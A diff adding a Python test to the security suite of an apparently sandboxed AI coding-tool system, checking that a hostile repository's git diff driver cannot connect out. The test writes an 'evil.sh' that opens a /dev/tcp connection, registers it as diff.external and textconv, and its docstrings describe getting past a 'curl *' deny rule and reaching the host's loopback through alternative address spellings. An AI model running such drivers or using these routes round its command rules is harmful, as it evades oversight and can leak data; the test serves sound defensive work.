@@ -346,6 +346,40 @@ async def _serve(hits: dict[str, int], name: str, task_status: trio.TaskStatus[i
     await trio.serve_listeners(answer, listeners)
 
 
+async def test_a_repository_diff_driver_cannot_reach_what_a_deny_rule_refuses(root: Path) -> None:
+    """The attack: .git/config names a diff.external (and a textconv) that connects out;
+    a proved ``git diff`` and ``git log -p`` under ``network="host"`` ran it although
+    ``deny=["curl *"]`` refuses the model's own connection. Neither runs it now, and the
+    diff is git's own.
+    """
+    from prism.coding.security import CommandRules
+
+    _git(root, "init", "-q")
+    (root / "a.txt").write_text("hello\n")
+    _git(root, "add", ".")
+    _git(root, "-c", "user.email=t@example.invalid", "-c", "user.name=t", "commit", "-qm", "x")
+    (root / "a.txt").write_text("hello\nmore\n")
+    (root / ".gitattributes").write_text("*.txt diff=x\n")
+    hits = {"a": 0}
+    async with trio.open_nursery() as nursery:
+        port = await nursery.start(_serve, hits, "a")
+        evil = root / "evil.sh"  # a file of the root, as hostile as the config
+        evil.write_text(f"#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; cat\n")
+        evil.chmod(0o755)
+        _git(root, "config", "diff.external", str(evil))
+        _git(root, "config", "diff.x.textconv", str(evil))
+        async with open_secure_coding_tools(
+            [str(root)], sandbox="bubblewrap", network="host",
+            command_rules=CommandRules(deny=["curl *"]),
+        ) as secure:  # fmt: skip
+            results = [await _shell(secure, c) for c in ("git diff", "git log -p -1 --format=")]
+        nursery.cancel_scope.cancel()
+    assert hits == {"a": 0}
+    assert [r.is_error for r, _ in results] == [False, False]
+    assert "+more" in results[0][0].joined_text
+    assert "+hello" in results[1][0].joined_text
+
+
 async def test_the_hosts_own_address_is_never_granted_however_spelled(root: Path) -> None:
     """The attack: approved, 'connect to [::ffff:7f00:1]:PORT' (or 0.0.0.0, localhost)
     read a service on the host's 127.0.0.1, because the call's proxy connects from the host.
